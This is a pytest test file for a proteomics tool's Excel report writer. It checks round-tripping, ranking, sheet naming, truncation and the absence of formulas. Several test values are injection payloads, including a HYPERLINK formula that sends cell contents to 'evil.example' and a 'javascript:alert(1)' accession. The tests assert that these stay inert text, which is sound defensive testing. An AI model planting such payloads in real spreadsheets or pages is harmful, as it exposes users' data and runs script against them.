"""candidates.xlsx: what is read back is what was ranked, and every name stays text."""

import io
import zipfile
from dataclasses import replace

import openpyxl
import pandas as pd
import pytest

from myosieve import schema
from myosieve.report import sheets, step, workbook
from myosieve.report.sheets import MOST_CHARACTERS, sheet_name
from myosieve.report.workbook import UNIPROT


@pytest.fixture(scope="module")
def book(reported):
    """The workbook of the made study, read by openpyxl."""
    return openpyxl.load_workbook(reported.xlsx)


def _values(sheet) -> pd.DataFrame:
    rows = list(sheet.iter_rows(values_only=True))
    return pd.DataFrame(rows[1:], columns=rows[0])


def test_every_contrast_has_a_sheet_that_reads_back_as_the_candidates(reported, book) -> None:
    candidates = reported.frame("candidates", schema.CANDIDATES)
    for contrast, rows in candidates.groupby("contrast"):
        sheet = _values(book[contrast])
        assert list(sheet) == schema.CANDIDATES.names
        expected = rows.set_index("protein_group").loc[sheet["protein_group"]].reset_index()[schema.CANDIDATES.names]
        for column in schema.CANDIDATES.columns:
            if column.kind in (schema.NUMBER, schema.COUNT):
                pd.testing.assert_series_equal(sheet[column.name].astype(float), expected[column.name], rtol=1e-12)
            else:
                assert sheet[column.name].fillna("").tolist() == expected[column.name].fillna("").tolist()


def test_candidates_come_ranked_and_the_excluded_behind_them(reported, book) -> None:
    for contrast in reported.frame("candidates", schema.CANDIDATES)["contrast"].unique():
        ranks = _values(book[contrast])["rank"]
        ranked = ranks.notna().sum()
        assert ranks[:ranked].tolist() == list(range(1, ranked + 1))
        assert ranks[ranked:].isna().all()
        assert ranked < len(ranks)


def test_names_that_look_like_formulas_dates_or_numbers_stay_text(book) -> None:
    header = [cell.value for cell in book["eps_vs_rest"][1]]
    genes = {row[header.index("gene")].value: row[header.index("gene")] for row in book["eps_vs_rest"].iter_rows(2)}
    for name in (
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "1-Mar",
        "MARCHF1",
        "SEPTIN2",
        "+1+1",
        "@SUM(A1)",
        "007",
    ):
        assert genes[name].data_type == "s", name
        assert genes[name].hyperlink is None


def test_no_sheet_holds_a_formula(reported, book) -> None:
    assert not [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    with zipfile.ZipFile(reported.xlsx) as parts:
        sheets = [parts.read(name) for name in parts.namelist() if name.startswith("xl/worksheets/sheet")]
    # openpyxl may call a formula text; the element <f> is what Excel runs.
    assert not [sheet for sheet in sheets if b"<f>" in sheet]


def test_a_missing_value_is_a_blank_cell(reported, book) -> None:
    candidates = reported.frame("candidates", schema.CANDIDATES)
    gap = candidates[(candidates["contrast"] == "eps_vs_rest") & candidates["log2fc"].isna()].iloc[0]["protein_group"]
    sheet = _values(book["eps_vs_rest"]).set_index("protein_group")
    assert sheet.loc[gap, ["log2fc", "ci_low", "ci_high", "q_value"]].isna().all()


def test_an_accession_of_uniprot_links_to_its_entry_and_no_other_does(small_study) -> None:
    made = small_study()
    candidates = made.frame("candidates", schema.CANDIDATES)
    candidates.loc[0, "accession"] = "javascript:alert(1)"
    made.rewrite("candidates", candidates)
    step.report(**made.arguments)
    sheet = openpyxl.load_workbook(made.xlsx)["eps_vs_rest"]
    column = schema.CANDIDATES.names.index("accession") + 1
    cells = [row[0] for row in sheet.iter_rows(2, min_col=column, max_col=column)]
    for cell in cells:
        linked = cell.hyperlink.target if cell.hyperlink else None
        assert linked == (None if ":" in cell.value else f"https://www.uniprot.org/uniprotkb/{cell.value}/entry")
    assert sum(cell.hyperlink is None for cell in cells) == 1


@pytest.mark.parametrize("accession", ["P05231", "Q8NAU1", "A0A024R161", "P05231-2"])
def test_the_accession_pattern_takes_examples_of_uniprots_manual(accession: str) -> None:
    # The first three are of the forms on https://www.uniprot.org/help/accession_numbers, the last one is an isoform.
    assert UNIPROT.fullmatch(accession)


@pytest.mark.parametrize("accession", ["P0523", "CON__P02769", "P05231/../x", "p05231", "ENSP00000258743"])
def test_the_accession_pattern_takes_nothing_else(accession: str) -> None:
    assert not UNIPROT.fullmatch(accession)


def test_beyond_excels_number_of_links_accessions_are_plain_text_and_counted(small_study, monkeypatch) -> None:
    monkeypatch.setattr(sheets, "MOST_LINKS", 3)
    made = small_study()
    summary = step.report(**made.arguments)
    assert summary.counts["accessions_without_link"] == 40 - 3


def test_the_other_sheets_hold_the_tests_the_samples_the_methods_and_the_settings(reported, book) -> None:
    assert book.sheetnames[0] == "Read me"
    assert book.sheetnames[-6:] == ["All proteins", "QC", "Sensitivity", "Validation", "Methods", "Settings"]
    measured = reported.frame("validation", schema.VALIDATION)
    assert _values(book["Validation"])["measure"].tolist() == measured["measure"].tolist()
    tests = reported.frame("differential", schema.DIFFERENTIAL)
    assert _values(book["All proteins"])["protein_group"].tolist() == tests["protein_group"].tolist()
    assert _values(book["QC"])["sample"].tolist() == reported.frame("samples_qc", schema.SAMPLES_QC)["sample"].tolist()
    settings = _values(book["Settings"])
    assert ["rank", "fdr", "0.05"] in settings.to_numpy().tolist()


def test_the_read_me_begins_with_the_warnings_and_explains_every_column(reported, book) -> None:
    rows = list(book["Read me"].iter_rows(values_only=True))
    texts = [row[0] for row in rows]
    assert texts[2] == reported.told()["warnings"][0]
    explained = {(row[0], row[1]): row[3] for row in rows if row[3]}
    for column in schema.CANDIDATES.columns:
        assert explained["contrast sheets", column.name] == column.meaning


def test_the_header_and_the_gene_stay_in_sight(book) -> None:
    sheet = book["eps_vs_rest"]
    column = openpyxl.utils.get_column_letter(schema.CANDIDATES.names.index("gene") + 2)
    assert sheet.freeze_panes == f"{column}2"
    assert sheet.auto_filter.ref.startswith("A1:")


def test_a_text_longer_than_a_cell_is_cut_with_a_mark_and_counted(small_study) -> None:
    made = small_study()
    candidates = made.frame("candidates", schema.CANDIDATES)
    # Excel counts UTF-16 units, of which this character has two.
    candidates.loc[0, "reason"] = "\U0001f4aa" * MOST_CHARACTERS
    made.rewrite("candidates", candidates)
    summary = step.report(**made.arguments)
    sheet = _values(openpyxl.load_workbook(made.xlsx)["eps_vs_rest"])
    longest = max(sheet["reason"].dropna(), key=len)
    assert len(longest.encode("utf-16-le")) // 2 <= MOST_CHARACTERS
    assert longest.endswith("[cut: the whole text is in the .tsv]")
    assert summary.counts["cells_cut"] == 1
    assert len(summary.warnings) == 1


def test_more_rows_than_a_sheet_holds_go_on_on_the_next(small_study, monkeypatch) -> None:
    made = small_study()
    monkeypatch.setattr(sheets, "MOST_ROWS", 15)
    step.report(**made.arguments)
    book = openpyxl.load_workbook(made.xlsx)
    names = ["All proteins", "All proteins 2", "All proteins 3"]
    assert [len(_values(book[name])) for name in names] == [15, 15, 10]


@pytest.mark.parametrize(
    "name", ["a" * 40, "b/c", "[x]:*?\\", "'quoted'", "History", "", "QC", "\U0001f4aa" * 30, "a\nb"]
)
def test_a_sheet_name_is_one_that_excel_takes(name: str) -> None:
    found = sheet_name(name, ["Read me", "qc"])
    assert 0 < len(found.encode("utf-16-le")) // 2 <= 31
    assert not set(found) & set("[]:*?/\\\n")
    assert found.strip("'") == found
    assert found.casefold() not in {"read me", "qc", "history"}


def test_sheet_names_that_differ_in_case_or_beyond_31_characters_stay_apart() -> None:
    taken: list[str] = []
    for name in ("Eps", "eps", "EPS", "x" * 31 + "1", "x" * 31 + "2"):
        taken.append(sheet_name(name, taken))
    assert len({name.casefold() for name in taken}) == 5


def test_a_contrast_named_as_another_sheet_gets_a_name_of_its_own(small_study) -> None:
    made = small_study()
    tables = {"candidates": schema.CANDIDATES, "differential": schema.DIFFERENTIAL, "validation": schema.VALIDATION}
    for name, table in tables.items():
        made.rewrite(name, made.frame(name, table).assign(contrast="qc"))
    step.report(**made.arguments)
    assert openpyxl.load_workbook(made.xlsx).sheetnames == [
        "Read me", "qc", "All proteins", "QC (2)", "Sensitivity", "Validation", "Methods", "Settings",
    ]  # fmt: skip


def test_a_contrast_without_candidates_has_a_sheet_with_the_header_alone(small_study) -> None:
    made = small_study()
    made.rewrite("candidates", made.frame("candidates", schema.CANDIDATES).iloc[:0])
    step.report(**made.arguments)
    assert len(_values(openpyxl.load_workbook(made.xlsx)["eps_vs_rest"])) == 0


def test_pandas_reads_the_workbook_without_a_warning(reported, book) -> None:
    read = pd.read_excel(
        io.BytesIO(reported.xlsx.read_bytes()), sheet_name="eps_vs_rest", keep_default_na=False, engine="openpyxl"
    )
    assert "NA" in set(read["gene"])


def test_the_bytes_do_not_depend_on_when_it_is_written(small_study, monkeypatch) -> None:
    content = step._read(**{k: v for k, v in small_study().arguments.items() if k not in ("xlsx", "html")})
    first, _ = workbook.workbook(content)
    monkeypatch.setattr("time.time", lambda: 2_000_000_000.0)
    assert workbook.workbook(content)[0] == first
    assert workbook.workbook(replace(content, title="another"))[0] != first
